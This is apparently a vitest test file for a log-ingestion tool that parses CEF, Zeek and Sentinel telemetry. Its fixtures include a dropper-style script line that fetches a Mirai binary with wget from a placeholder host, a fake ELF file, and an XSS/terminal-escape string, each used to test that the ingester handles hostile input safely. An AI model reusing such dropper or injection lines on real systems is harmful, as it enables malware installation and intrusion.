import { mkdirSync, symlinkSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Store } from '../../src/store/db.js';
import { ingestFile, ingestPaths } from '../../src/telemetry/ingest.js';
import type { IngestLedger } from '../../src/telemetry/types.js';
import { hasShared, sharedData, tempDir, writeTemp } from './shared.js';

let store: Store;
beforeAll(async () => {
  store = await Store.open();
});
afterAll(() => store.close());

function balanced(ledger: IngestLedger): void {
  expect(ledger.read).toBe(ledger.ingested + ledger.rejected.length);
}

describe('ingestFile ledger', () => {
  it('counts read = ingested + rejected, plus ignored, with 1-based lines and _Source', async () => {
    const dir = tempDir();
    const file = writeTemp(
      dir,
      'fw.cef',
      'CEF:0|V|P|1|1|n|5|src=1.1.1.1 dst=176.65.139.7 dpt=3778\r\n\nnot cef at all\nCEF:0|V|P|1|1|n|5|dst=2.2.2.2',
    );
    const ledger = await ingestFile(store, file);
    balanced(ledger);
    expect(ledger).toMatchObject({
      file,
      format: 'cef',
      read: 3,
      ingested: 2,
      ignored: 1,
      tables: { CommonSecurityLog: 2 },
    });
    expect(ledger.rejected).toEqual([{ file, line: 3, reason: 'not CEF: no "CEF:" marker' }]);
    const rows = await store.query(
      `SELECT DestinationIP, DestinationPort, _Source FROM CommonSecurityLog WHERE _Source LIKE ? ORDER BY _Source`,
      [`${file}:%`],
    );
    expect(rows).toEqual([
      { DestinationIP: '176.65.139.7', DestinationPort: 3778, _Source: `${file}:1` },
      { DestinationIP: '2.2.2.2', DestinationPort: null, _Source: `${file}:4` },
    ]);
  });

  it('flushes in batches and keeps counting across them', async () => {
    const dir = tempDir();
    const lines = Array.from(
      { length: 2500 },
      (_, i) => `CEF:0|V|P|1|1|n|5|src=10.0.${i >> 8}.${i & 255} spt=${i}`,
    );
    const file = writeTemp(dir, 'many.log', lines.join('\n') + '\n');
    const ledger = await ingestFile(store, file, { batchRows: 100 });
    expect(ledger).toMatchObject({
      read: 2500,
      ingested: 2500,
      rejected: [],
      tables: { CommonSecurityLog: 2500 },
    });
    const [n] = await store.query('SELECT count(*) AS n FROM CommonSecurityLog WHERE _Source LIKE ?', [
      `${file}:%`,
    ]);
    expect(n.n).toBe(2500);
  });

  it('reads gzip-compressed logs', async () => {
    const dir = tempDir();
    const file = writeTemp(dir, 'fw.log.gz', gzipSync('CEF:0|V|P|1|1|n|5|src=9.9.9.9\n'));
    expect(await ingestFile(store, file)).toMatchObject({ format: 'cef', read: 1, ingested: 1 });
  });

  it('turns a bad file into a file-level reject instead of throwing', async () => {
    const dir = tempDir();
    const missing = join(dir, 'missing.log');
    const a = await ingestFile(store, missing);
    expect(a).toMatchObject({
      read: 1,
      ingested: 0,
      rejected: [{ file: missing, line: 0, reason: 'unreadable file: ENOENT' }],
    });
    const bin = writeTemp(dir, 'mirai.arm', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0, 0]));
    const b = await ingestFile(store, bin);
    expect(b.rejected).toEqual([{ file: bin, line: 0, reason: 'not a log: binary content' }]);
    balanced(b);
    const folder = await ingestFile(store, dir);
    expect(folder.rejected[0].reason).toMatch(/unreadable file: EISDIR/);
    const unknown = await ingestFile(store, writeTemp(dir, 'x.log', 'hello\n'), { format: 'syslog' });
    expect(unknown.rejected[0].reason).toMatch(/unknown format "syslog"/);
    const notArray = await ingestFile(store, writeTemp(dir, 'DnsEvents.json', '[{"Name":"a"}, {"Name":'), {
      format: 'sentinel-json',
    });
    expect(notArray).toMatchObject({ read: 2, ingested: 1 });
    expect(notArray.rejected).toEqual([
      {
        file: notArray.file,
        line: 1,
        reason: 'JSON: the JSON array is not closed: its last element is cut off',
      },
    ]);
  });
});

describe('hostile input', () => {
  it('keeps terminal escapes, HTML and NUL bytes verbatim as data', async () => {
    const dir = tempDir();
    const evil = 'x\u001b[31mRED\u001b[0m<script>alert(1)</script>\u0000end';
    const file = writeTemp(dir, 'evil.cef', `CEF:0|V|P|1|1|n|5|msg=${evil} act=a\n`);
    const ledger = await ingestFile(store, file);
    expect(ledger).toMatchObject({ read: 1, ingested: 1 });
    const [row] = await store.query('SELECT Message FROM CommonSecurityLog WHERE _Source = ?', [`${file}:1`]);
    expect(row.Message).toBe(evil);
  });

  it('rejects an over-long line without stopping the file, and never hangs', async () => {
    const dir = tempDir();
    const long = 'CEF:0|V|P|1|1|n|5|msg=' + 'A'.repeat(3 * 1024 * 1024);
    const file = writeTemp(
      dir,
      'long.cef',
      `CEF:0|V|P|1|1|n|5|act=a\n${long}\nCEF:0|V|P|1|1|n|5|act=b\n${long}`,
    );
    const start = Date.now();
    const ledger = await ingestFile(store, file);
    expect(Date.now() - start).toBeLessThan(5000);
    expect(ledger).toMatchObject({ read: 4, ingested: 2 });
    expect(ledger.rejected.map((r) => [r.line, r.reason])).toEqual([
      [2, 'line too long (over 1048576 bytes): skipped'],
      [4, 'line too long (over 1048576 bytes): skipped'],
    ]);
  });

  it('survives lone surrogates, invalid UTF-8 and pathological CEF', async () => {
    const dir = tempDir();
    const nd = writeTemp(
      dir,
      'DnsEvents.ndjson',
      '{"Name":"a\\ud800b","ClientIP":"1.1.1.1","TimeGenerated":"2024-01-01T00:00:00Z"}\n',
    );
    expect(await ingestFile(store, nd)).toMatchObject({ read: 1, ingested: 1, rejected: [] });
    const [row] = await store.query('SELECT Name FROM DnsEvents WHERE _Source = ?', [`${nd}:1`]);
    expect(row.Name).toBe('a\ufffdb');
    const bad = Buffer.concat([
      Buffer.from('CEF:0|V|P|1|1|n|5|msg=\xff'),
      Buffer.from([0xc3, 0x28, 0xa0]),
      Buffer.from(' act=a\n'),
    ]);
    expect(await ingestFile(store, writeTemp(dir, 'utf8.cef', bad))).toMatchObject({ read: 1, ingested: 1 });
    const spaces = 'CEF:0|V|P|1|1|n|5|' + ' a'.repeat(200_000) + '=' + ' b'.repeat(200_000);
    const start = Date.now();
    expect(await ingestFile(store, writeTemp(dir, 'spaces.cef', spaces + '\n'))).toMatchObject({
      read: 1,
      ingested: 1,
    });
    expect(Date.now() - start).toBeLessThan(2000);
  });

  it('rejects a row the store refuses without losing the rest of the batch', async () => {
    const dir = tempDir();
    // year 20000 parses as a JS date but not as a DuckDB TIMESTAMP
    const file = writeTemp(
      dir,
      'DeviceNetworkEvents.ndjson',
      [
        '{"TimeGenerated":"2024-01-01T00:00:00Z","RemoteIP":"1.1.1.1"}',
        '{"TimeGenerated":6e14,"RemoteIP":"2.2.2.2"}',
        '{"RemoteIP":"3.3.3.3"}',
      ].join('\n'),
    );
    const ledger = await ingestFile(store, file);
    balanced(ledger);
    expect(ledger.ingested + ledger.rejected.length).toBe(3);
    const [n] = await store.query('SELECT count(*) AS n FROM DeviceNetworkEvents WHERE _Source LIKE ?', [
      `${file}:%`,
    ]);
    expect(n.n).toBe(ledger.ingested);
    expect(ledger.tables.DeviceNetworkEvents ?? 0).toBe(ledger.ingested);
  });
});

describe('SQL fast path', () => {
  it('reads a column that the sampled first lines did not have (NDJSON)', async () => {
    const dir = tempDir();
    const lines = Array.from({ length: 1500 }, (_, i) =>
      JSON.stringify({
        Timestamp: '2024-01-01T00:00:00Z',
        RemoteIP: `1.1.${i >> 8}.${i & 255}`,
        RemotePort: 80,
      }),
    );
    lines.push(
      '{"Timestamp":"2024-01-01T00:00:00Z","RemoteIP":"9.9.9.9","InitiatingProcessFileName":"wget","Other":1}',
    );
    lines.push('{"Timestamp":"2024-01-01T00:00:00Z","RemoteIP":"8.8.8.8","InitiatingProcessFileName":null}');
    const file = writeTemp(dir, 'DeviceNetworkEvents.ndjson', lines.join('\n') + '\n');
    const ledger = await ingestFile(store, file);
    balanced(ledger);
    expect(ledger).toMatchObject({ read: 1502, ingested: 1502, rejected: [] });
    const rows = await store.query(
      'SELECT RemoteIP, InitiatingProcessFileName AS p, _Source AS s FROM DeviceNetworkEvents WHERE _Source LIKE ? AND RemoteIP IN (?, ?) ORDER BY RemoteIP',
      [`${file}:%`, '9.9.9.9', '8.8.8.8'],
    );
    expect(rows).toEqual([
      { RemoteIP: '8.8.8.8', p: null, s: `${file}:1502` },
      { RemoteIP: '9.9.9.9', p: 'wget', s: `${file}:1501` },
    ]);
  });
});

describe('ingestPaths', () => {
  it('walks folders in sorted order, ingests logs, lists the rest as unrecognised', async () => {
    const dir = tempDir();
    mkdirSync(join(dir, 'b'));
    mkdirSync(join(dir, 'a'));
    const cef = writeTemp(dir, 'b/fw.log', 'CEF:0|V|P|1|1|n|5|src=1.1.1.1\n');
    const zeek = writeTemp(
      dir,
      'a/conn.log',
      '{"ts":1,"uid":"C","id.orig_h":"1.1.1.1","conn_state":"S0","proto":"tcp"}\n',
    );
    const elf = writeTemp(dir, 'a/mirai.arm', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1]));
    const script = writeTemp(dir, 'b/bins.sh', '#!/bin/sh\nwget http://x/mirai.arm\n');
    symlinkSync(join(dir, 'a'), join(dir, 'b/loop'));
    let fifo: string | undefined;
    try {
      fifo = join(dir, 'pipe');
      execFileSync('mkfifo', [fifo]);
    } catch {
      fifo = undefined;
    }
    const result = await ingestPaths(store, [dir]);
    expect(result.ledgers.map((l) => [l.file, l.format])).toEqual([
      [zeek, 'zeek-json'],
      [cef, 'cef'],
    ]);
    expect(result.unrecognised).toEqual([elf, script]);
    expect(result.reasons[elf]).toBe('binary content');
    expect(result.skipped).toContainEqual({
      path: join(dir, 'b/loop'),
      reason: 'folder already read via another path',
    });
    if (fifo) expect(result.skipped).toContainEqual({ path: fifo, reason: 'special file (fifo)' });
  });

  it.skipIf(!hasShared)('ingests the whole reference folder with balanced ledgers', async () => {
    const s = await Store.open();
    const { ledgers } = await ingestPaths(s, [join(sharedData, 'sentinel'), join(sharedData, 'zeek')]);
    expect(ledgers.length).toBe(17);
    for (const ledger of ledgers) {
      balanced(ledger);
      expect(ledger.rejected, ledger.file).toEqual([]);
    }
    s.close();
  });
});
